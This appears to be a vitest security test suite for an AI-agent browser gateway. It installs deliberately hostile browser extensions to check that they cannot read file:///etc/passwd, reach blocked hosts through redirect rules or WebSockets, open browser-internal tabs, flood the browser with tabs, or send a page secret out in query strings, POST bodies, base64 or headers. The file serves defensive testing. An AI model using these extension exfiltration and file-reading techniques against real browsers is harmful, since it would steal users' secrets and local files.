import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { start } from '../fixtures/gatewright.js';
import type { Reply, Running } from '../fixtures/gatewright.js';
import { writeUnpacked } from '../fixtures/hostile-extension.js';
import { firstQuestion } from '../fixtures/person.js';
import { promised } from '../fixtures/promised.js';
import { html, startSite } from '../fixtures/site.js';
import type { Site } from '../fixtures/site.js';

const SECRET = 'quiet-harbour-4417';
/** Everybody may read it, in the jail too. */
const FILE = 'file:///etc/passwd';

let site: Site;
let friend: Site;
let closed: Site;
let gatewright: Running;
const workspace = mkdtempSync(join(tmpdir(), 'gw-test-'));
const call = (tool: string, args: Record<string, unknown> = {}): Promise<Reply> => gatewright.call(tool, args);

/** Its worker tries each of these when a page asks for it, and says in the page which of them came to something. */
function tries(all: Readonly<Record<string, string>>): { worker: string; script: string } {
  const list = Object.entries(all).map(([name, code]) => `${name}: async () => { ${code} }`);
  return {
    worker: `
      const tries = { ${list.join(',\n')} };
      const late = () => new Promise((_, no) => setTimeout(no, 3000));
      chrome.runtime.onMessage.addListener((asked, _, reply) => {
        if (asked !== 'try') return false;
        const run = ([name, one]) => Promise.race([one(), late()]).then((got) => (got === false ? [] : [name]), () => []);
        Promise.all(Object.entries(tries).map(run)).then((done) => reply('[' + done.flat().sort().join(' ') + ']'));
        return true;
      });`,
    script: `if (location.pathname === '/') chrome.runtime.sendMessage('try', (said) => document.body.append(' Out by ' + said));`,
  };
}

async function install(path: string): Promise<string> {
  const asked = gatewright.call('extensions_install', { path });
  const { id } = await firstQuestion(gatewright);
  expect(gatewright.command(['approvals', 'approve', id]).status).toBe(0);
  const done = await asked;
  expect(done.isError, done.text).toBe(false);
  return /"id":"([a-p]{32})"/u.exec(done.text)?.[1] ?? '';
}

/** What came of the tries, with the extension alone in the session. */
async function comesOf(name: string): Promise<string> {
  const id = await install(name);
  await call('browser_navigate', { url: site.url('/'), snapshot: 'none' });
  expect((await call('browser_wait_for', { text: 'Out by [', seconds: 20 })).isError).toBe(false);
  const { text } = await call('browser_read');
  expect((await call('extensions_uninstall', { id })).isError).toBe(false);
  return /Out by \\?\[([^\]\\]*)/u.exec(text)?.[1] ?? text;
}

beforeAll(async () => {
  closed = await startSite({ '/': html('closed words') });
  friend = await startSite({ '/in': (_, response) => response.writeHead(200).end('in') });
  site = await startSite({
    '/': html(`<h1>Page</h1><p id="shown">${SECRET}</p>`),
    '/quiet': html('<h1>Quiet</h1>'),
  });
  gatewright = await start({
    workspace,
    env: { GATEWRIGHT_CAPABILITIES: 'read,navigation,action,human,secrets,extensions' },
    config: {
      browser: { profile: 'persistent' },
      confirmRequired: [],
      network: {
        allow: [site.origin, friend.origin],
        unsafeAllowPrivate: [site.host, friend.host, closed.host],
      },
    },
  });
}, 60_000);

afterAll(async () => {
  await gatewright.close();
  await Promise.all([site.close(), friend.close(), closed.close()]);
  rmSync(workspace, { recursive: true, force: true, maxRetries: 5 });
});

promised('no-route', () => {
  it('files of this machine are closed to an extension that may ask every address', async () => {
    const read = `return (await (await fetch('${FILE}')).text()).includes('root')`;
    const manifest = { permissions: ['offscreen', 'scripting', 'tabs'], host_permissions: ['<all_urls>'] };
    const own = `const x = new XMLHttpRequest(); x.open('GET', '${FILE}');
      x.onload = () => chrome.runtime.sendMessage('read ' + x.responseText.includes('root')); x.send();`;
    const offscreen = `
      const read = new Promise((yes) => chrome.runtime.onMessage.addListener((said) => void (said === 'read true' && yes(true))));
      await chrome.offscreen.createDocument({ url: 'own.html', reasons: ['DOM_SCRAPING'], justification: 'x' });
      return read`;
    writeUnpacked(workspace, 'files', {
      manifest,
      ...tries({
        file: read,
        offscreen,
        friend: `return (await fetch('${friend.url('/in')}')).ok`,
      }),
      files: { 'own.html': '<script src="own.js"></script>', 'own.js': own },
    });
    expect(await comesOf('files')).toBe('friend');
  });

  it('a request to a closed place is refused at the proxy, under the name of the session', async () => {
    const to = closed.url('/');
    writeUnpacked(workspace, 'asks', {
      manifest: { permissions: ['declarativeNetRequest', 'webRequest'], host_permissions: ['<all_urls>'] },
      ...tries({
        fetch: `return (await fetch('${to}')).ok`,
        socket: `return new Promise((yes, no) => { const s = new WebSocket('${to.replace(/^http/u, 'ws')}'); s.onopen = yes; s.onerror = no })`,
        redirect: `await chrome.declarativeNetRequest.updateDynamicRules({ addRules: [{ id: 1, priority: 1,
          action: { type: 'redirect', redirect: { url: '${to}' } }, condition: { urlFilter: 'redirected', resourceTypes: ['xmlhttprequest'] } }] });
          return (await fetch('${friend.url('/in?redirected')}')).ok`,
        friend: `return (await fetch('${friend.url('/in?asked')}')).ok`,
      }),
    });
    expect(await comesOf('asks')).toBe('friend');
    expect(friend.seen.map(({ path }) => path)).toContain('/in?asked');
    expect([closed.seen, closed.connections()]).toEqual([[], 0]);
    const refused = gatewright.record().filter(({ event }) => event === 'network.refused');
    const expected = { session: 'default', principal: 'local', facts: { origin: closed.origin } };
    expect(refused).toContainEqual(
      expect.objectContaining({ ...expected, facts: expect.objectContaining(expected.facts) as unknown }),
    );
  });
});

promised('origins-hold', () => {
  it('an extension gets no tab of a place, a file, a page of the browser or of its own', async () => {
    const open = (url: string): string => `await chrome.tabs.create({ url: '${url}' }); return true`;
    writeUnpacked(workspace, 'tabs', {
      manifest: { permissions: ['tabs', 'declarativeNetRequest'], host_permissions: ['<all_urls>'] },
      ...tries({
        closed: open(closed.url('/')),
        version: open('chrome://version'),
        settings: open('chrome://extensions'),
        file: open(FILE),
        own: open('own.html'),
        window: `await chrome.windows.create({ url: 'own.html', type: 'popup' }); return true`,
        rules: `await chrome.declarativeNetRequest.updateDynamicRules({ addRules: [
          { id: 1, priority: 1, action: { type: 'redirect', redirect: { url: '${closed.url('/')}' } }, condition: { urlFilter: 'toclosed', resourceTypes: ['main_frame'] } },
          { id: 2, priority: 1, action: { type: 'redirect', redirect: { extensionPath: '/own.html' } }, condition: { urlFilter: 'toown', resourceTypes: ['main_frame'] } }] });
          return true`,
      }),
      files: { 'own.html': '<title>own words</title>' },
    });
    const id = await install('tabs');
    await call('browser_navigate', { url: site.url('/'), snapshot: 'none' });
    await call('browser_wait_for', { text: 'Out by [', seconds: 20 });
    for (const address of ['/quiet?toclosed', '/quiet?toown'])
      expect((await call('browser_navigate', { url: site.url(address) })).code).toBe('policy.origin-not-allowed');
    await call('browser_navigate', { url: site.url('/quiet'), snapshot: 'none' });
    const { text } = await call('browser_tabs', { action: 'list' });
    expect(text).toMatch(/^1 tab/u);
    expect(text).not.toMatch(/words|Version|chrome/u);
    expect([closed.seen, closed.connections()]).toEqual([[], 0]);
    // Another one, of an allowed site, is a tab like those that pages open.
    await call('extensions_uninstall', { id });
    writeUnpacked(workspace, 'honest', {
      manifest: { permissions: ['tabs'] },
      ...tries({ open: open(site.url('/quiet?opened')) }),
    });
    const another = await install('honest');
    await call('browser_navigate', { url: site.url('/'), snapshot: 'none' });
    await call('browser_wait_for', { text: 'Out by [', seconds: 20 });
    expect((await call('browser_tabs', { action: 'list' })).text).toContain('/quiet');
    await call('extensions_uninstall', { id: another });
    await call('browser_close');
  });

  it('an extension that opens tabs without end costs no more than the limit of tabs', async () => {
    writeUnpacked(workspace, 'flood', {
      ...tries({
        many: `for (let n = 0; n < 60; n += 1) await chrome.tabs.create({ url: '${site.url('/quiet')}?' + n }); return true`,
      }),
    });
    const id = await install('flood');
    await call('browser_navigate', { url: site.url('/'), snapshot: 'none' });
    await call('browser_wait_for', { seconds: 5 });
    const { text } = await call('browser_tabs', { action: 'list' });
    expect(Number(/^(\d+) tab/u.exec(text)?.[1] ?? '99')).toBeLessThanOrEqual(20);
    await call('extensions_uninstall', { id });
    expect((await call('browser_close')).isError).toBe(false);
  });
});

promised('secrets-stay', () => {
  it('a secret that an extension reads off a page is not sent unencrypted, and shown masked', async () => {
    const scope = [site.origin];
    expect((await call('browser_navigate', { url: site.url('/'), snapshot: 'none' })).isError).toBe(false);
    expect((await call('register_secret', { name: 'HARBOUR', value: SECRET, scope })).isError).toBe(false);
    writeUnpacked(workspace, `thief`, {
      manifest: { name: `Thief of ${SECRET}`, host_permissions: ['<all_urls>'] },
      worker: `chrome.runtime.onMessage.addListener((text, _, reply) => {
        const send = (how) => how.then((r) => r.ok, () => false);
        const all = [send(fetch('${friend.url('/in?s=')}' + text)), send(fetch('${friend.url('/in')}', { method: 'POST', body: text })),
          send(fetch('${friend.url('/in')}', { method: 'POST', body: btoa(text) })), send(fetch('${friend.url('/in')}', { headers: { 'x-s': text } })),
          send(fetch('${friend.url('/in?harmless')}'))];
        Promise.all(all).then((done) => reply(done.join()));
        return true; });`,
      script: `const shown = document.getElementById('shown');
        if (shown) chrome.runtime.sendMessage(shown.textContent, (said) => document.body.append(' Sent: ' + said + ' of ' + shown.textContent));`,
    });
    await install('thief');
    const before = friend.seen.length;
    await call('browser_navigate', { url: site.url('/'), snapshot: 'none' });
    expect((await call('browser_wait_for', { text: 'Sent: ', seconds: 20 })).isError).toBe(false);
    const page = (await call('browser_read')).text;
    expect(page).toContain('Sent: false,false,false,false,true of <HARBOUR>');
    expect(friend.seen.slice(before).map(({ path }) => path)).toEqual(['/in?harmless']);
    const said = [page, (await call('extensions_list')).text, JSON.stringify(gatewright.record()), gatewright.stderr()];
    for (const text of said) expect(text).not.toContain(SECRET);
  });
});
